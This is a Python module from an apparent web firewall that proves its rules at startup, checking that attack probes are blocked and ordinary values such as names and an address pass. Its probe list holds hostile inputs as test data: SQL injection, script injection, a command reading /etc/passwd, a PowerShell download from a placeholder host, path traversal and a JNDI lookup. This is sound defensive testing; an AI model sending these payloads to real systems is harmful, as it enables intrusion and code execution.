"""Proof at the start that the rules work: a rule with a broken pattern loads without a word.

It is made in a process of its own first, since a faulty rule can spoil each later load or end the process.
"""

import subprocess
import sys
from collections.abc import Mapping
from typing import Final
from urllib.parse import quote

from modellkommune.firewall.engine import Engine, Inspected, RulesRefused
from modellkommune.firewall.patterns import faulty_patterns

PROBES: Final[Mapping[str, str]] = {
    "SQL": "1' OR '1'='1' --",
    "scripts": "<script>alert(1)</script>",
    "commands": "; cat /etc/passwd",
    "commands of Windows": "powershell -c Invoke-WebRequest http://x.example/a.ps1",
    "files": "../../../../etc/passwd",
    "PHP": "base64_decode('eA==')",
    "templates": "{{7*7}}",
    "Java": "${jndi:ldap://x.example/a}",
    "requests in requests": "GET /a HTTP/1.1",
}
LONGEST_TRIAL: Final = 60  # seconds
HARMLESS: Final = ("Müller", "D'Angelo", "Straße des 17. Juni 135", "karl@example.de", "only")


def proven(engine: Engine) -> Engine:
    """The engine, if it turns each probe away and lets what is harmless through. Raises RulesRefused."""
    passed = [name for name, probe in PROBES.items() if engine.inspect(_asked(probe)) is None]
    if passed:
        raise RulesRefused(f"the rules let these attacks through: {', '.join(passed)}")
    refused = [value for value in HARMLESS if engine.inspect(_asked(value)) is not None]
    if refused:
        raise RulesRefused(f"the rules turn harmless values away: {', '.join(refused)}")
    return engine


def started(texts: tuple[str, ...]) -> Engine:
    """The engine with these rules, tried in a process of its own before. Raises RulesRefused."""
    order = (sys.executable, "-m", "modellkommune.firewall.proving")
    try:
        tried = subprocess.run(  # noqa: S603 -- our own program
            order, input="\0".join(texts), text=True, capture_output=True, timeout=LONGEST_TRIAL, check=False
        )
    except subprocess.TimeoutExpired:
        raise RulesRefused(f"the rules were not loaded within {LONGEST_TRIAL} seconds") from None
    if tried.returncode:
        raise RulesRefused(tried.stderr.strip() or f"the engine ended with status {tried.returncode}")
    return proven(Engine(texts))


def _asked(value: str) -> Inspected:
    headers = ((b"Host", b"localhost"), (b"User-Agent", b"Mozilla/5.0"), (b"Accept", b"text/html"))
    return Inspected("GET", f"/?probe={quote(value)}", "1.1", headers, b"", "127.0.0.1")


def _try(texts: list[str]) -> None:
    faults = "; ".join(faulty_patterns(texts))
    if faults:
        raise RulesRefused(faults)
    proven(Engine(texts))


if __name__ == "__main__":
    try:
        _try(sys.stdin.read().split("\0"))
    except RulesRefused as refusal:
        sys.exit(str(refusal))
